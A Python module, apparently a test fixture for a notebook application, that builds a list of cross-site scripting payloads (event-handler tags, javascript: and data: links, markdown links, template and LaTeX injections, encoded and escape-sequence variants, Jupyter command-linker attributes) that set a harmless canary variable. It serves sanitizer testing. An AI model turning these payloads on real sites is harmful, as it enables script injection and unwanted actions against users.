"""What an attacker writes into a notebook: texts that would run a script in the page if they were taken for HTML,
a link, a template or a format. Each would set `window.mlopsCanary` in the page, its parent or the top.

Compiled by hand from the public families of such texts (OWASP's cheat sheet names them).
"""

from __future__ import annotations

from itertools import product

RUN = "top.mlopsCanary=parent.mlopsCanary=window.mlopsCanary=1"
_B = f"eval('{RUN}')"
_HANDLERS = ("onerror", "OnErRoR", "onload", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter")
_TAGS = (
    "<img src=x {h}={b}>",
    '<img src="x" {h}="{b}">',
    "<img/src=x/{h}={b}>",
    "<svg {h}={b}>",
    "<svg><g {h}={b}></g></svg>",
    "<body {h}={b}>",
    "<input autofocus {h}={b}>",
    "<details open {h}={b}>x</details>",
    "<video><source {h}={b}></video>",
    "<audio src=x {h}={b}>",
    "<iframe {h}={b}></iframe>",
    "<marquee {h}={b}>x</marquee>",
    "<style>@keyframes k{{}}</style><a style=animation-name:k {h}={b}>x</a>",
    "<math {h}={b}><mtext>x</mtext></math>",
    "<object data=x {h}={b}></object>",
)
_LINKS = (
    "javascript:{b}",
    "JaVaScRiPt:{b}",
    "java\tscript:{b}",
    " javascript:{b}",
    "javascript&colon;{b}",
    "data:text/html,<script>{b}</script>",
    "vbscript:{b}",
    "jav&#x0A;ascript:{b}",
)
_CARRIERS = (
    "<a href='{u}'>x</a>",
    "<iframe src='{u}'></iframe>",
    "<form action='{u}'><button autofocus>x</button></form>",
    "<object data='{u}'></object>",
    "<embed src='{u}'>",
    "[x]({u})",
    "![x]({u})",
    "<svg><a xlink:href='{u}'><text>x</text></a></svg>",
)
_OTHERS = (
    "<script>{b}</script>",
    "<ScRiPt>{b}</ScRiPt>",
    "<script src=data:text/javascript,{b}></script>",
    "<scr<script>ipt>{b}</scr</script>ipt>",
    "</textarea><script>{b}</script>",
    "</title><script>{b}</script>",
    "</style><script>{b}</script>",
    "</script><script>{b}</script>",
    "--><script>{b}</script>",
    "'\"><script>{b}</script>",
    '" onfocus={b} autofocus x="',
    "' onfocus={b} autofocus x='",
    "<meta http-equiv=refresh content='0;url=javascript:{b}'>",
    "<link rel=stylesheet href=javascript:{b}>",
    "<base href=javascript:{b}//>",
    "<template><script>{b}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={b}>'>",
    "<math><mi xlink:href='data:x,<script>{b}</script>'></mi></math>",
    "<svg><script>{b}</script></svg>",
    "<svg><style><img src=x onerror={b}></style></svg>",
    "<svg><foreignObject><script>{b}</script></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={b}></svg>#x'></use></svg>",
    "<svg><animate onbegin={b} attributeName=x></animate></svg>",
    "<svg><set onbegin={b} attributeName=x></set></svg>",
    "{{{{constructor.constructor('{r}')()}}}}",
    "${{{b}}}",
    "#{{{b}}}",
    "<%= {b} %>",
    "[[{b}]]",
    "$$\\href{{javascript:{b}}}{{x}}$$",
    "\\unicode{{<img src=x onerror={b}>}}",
    "`<img src=x onerror={b}>`",
    "&lt;img src=x onerror={b}&gt;",
    "%3Cimg%20src%3Dx%20onerror%3D{b}%3E",
    "\\u003cimg src=x onerror={b}\\u003e",
    "\x1b]8;;javascript:{b}\x07x\x1b]8;;\x07",
    "\x1b[31m<img src=x onerror={b}>\x1b[0m",
    "<p data-commandlinker-command='mlops:run-notebook' data-commandlinker-args='{{}}'>x</p>",
    "<div data-jupyter-command='mlops:delete-run'>x</div>",
    "<portal src='javascript:{b}'></portal>",
    "<isindex action=javascript:{b} type=image>",
    "<xss id=x tabindex=1 onfocus={b}></xss>",
    "<img src=x:x onerror={b} alt='\u202e'>",
    "\ufeff<img src=x onerror={b}>",
)


def payloads() -> list[str]:
    """Return all of them, each once."""
    found = [tag.format(h=handler, b=_B) for tag, handler in product(_TAGS, _HANDLERS)]
    found += [carrier.format(u=link.format(b=_B)) for carrier, link in product(_CARRIERS, _LINKS)]
    found += [other.format(b=_B, r=RUN.replace("'", '"')) for other in _OTHERS]
    return list(dict.fromkeys(found))
